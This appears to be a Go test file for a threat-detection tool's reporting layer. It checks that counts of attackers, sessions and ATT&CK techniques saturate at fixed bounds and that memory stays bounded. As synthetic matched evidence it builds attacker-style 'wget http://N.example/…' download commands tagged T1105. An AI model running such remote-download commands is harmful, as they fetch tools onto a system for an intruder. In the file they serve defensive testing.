package projections_test

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/ttpstream/ttpstream/projections"
	"github.com/ttpstream/ttpstream/schemas"
)

// flood adds n tags, each of another attacker, session and token.
func flood(tb testing.TB, p *projections.Picture, n int, technique string) {
	tag := finding{
		source: "x", address: "192.0.2.1", session: "s", tactic: "TA0011", technique: technique, confidence: 0.9, rule: "R1", tokens: []string{"x"},
	}.tag(tb)
	evidence := &schemas.CommandEvidence{Matched: schemas.Matched{MatchedTokens: []schemas.Token{{Field: "cmd.line"}}}}
	tag.Evidence = evidence
	for i := range n {
		tag.AttackerUUID[0], tag.AttackerUUID[1], tag.AttackerUUID[2] = byte(i), byte(i>>8), byte(i>>16)
		tag.SessionID = fmt.Sprintf("session-%d", i)
		evidence.MatchedTokens[0].Text = fmt.Sprintf("wget http://%d.example/%s", i, strings.Repeat("x", 200))
		p.Add(tag)
	}
}

// Beyond the bounds the report says "at least", shows a sample and counts what
// it does not rank.
func TestBeyondTheBounds(t *testing.T) {
	t.Parallel()
	const n = 70_000
	p := projections.NewPicture()
	flood(t, p, n, "T1105")
	r := p.Report(catalogue(t), projections.Intake{Rules: 1}, projections.ReportOptions{})
	row := r.Tactics[0].Techniques[0]
	if want := (projections.Count{N: 4096}); row.Attackers != want || row.Sessions != want || r.Tactics[0].Attackers != want {
		t.Errorf("attackers, sessions = %v, %v, want %v", row.Attackers, row.Sessions, want)
	}
	if want := (projections.Count{N: 65_536}); r.Totals.Attackers != want || r.Totals.Sessions != want {
		t.Errorf("in all: attackers, sessions = %v, %v, want %v", r.Totals.Attackers, r.Totals.Sessions, want)
	}
	if want := (projections.Count{N: 2048}); row.Tokens != want {
		t.Errorf("tokens = %v, want %v", row.Tokens, want)
	}
	if r.Totals.Unranked != n-65_536 || row.Tags != n || len(r.Attackers) != 100 {
		t.Errorf("unranked %d, tags %d, ranked %d", r.Totals.Unranked, row.Tags, len(r.Attackers))
	}
	out := text(t, r, projections.TextOptions{Width: 100})
	for _, want := range []string{"≥65,536 attackers", "≥4,096", "evidence is a sample", "4,464 tags of attackers beyond", "≥65,526 more attackers"} {
		if !strings.Contains(out, want) {
			t.Errorf("the text lacks %q:\n%s", want, out)
		}
	}
}

// Memory stays below what the bounds say.
func TestMemoryIsBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED: TestMemoryIsBounded fills a Picture: not with -short")
	}
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := heap()
	p := projections.NewPicture()
	flood(t, p, 66_000, "T1105")
	one := heap() - before
	for i := range 9 {
		flood(t, p, 5000, fmt.Sprintf("T%04d", 2000+i))
	}
	all := heap() - before
	t.Logf("one technique and all attackers: %.1f MB; each further technique: %.2f MB", float64(one)/1e6, float64(all-one)/9/1e6)
	if one > 35e6 || all-one > 9*1.5e6 {
		t.Error("more than the bounds promise")
	}
	runtime.KeepAlive(p)
}

func BenchmarkAdd(b *testing.B) {
	tags, _ := night(b)
	p := projections.NewPicture()
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		p.Add(tags[i%len(tags)])
	}
}

func BenchmarkAddNewTokens(b *testing.B) {
	p := projections.NewPicture()
	b.ReportAllocs()
	started := time.Now()
	flood(b, p, b.N, "T1105")
	b.ReportMetric(float64(time.Since(started).Nanoseconds())/float64(b.N), "ns/tag")
}
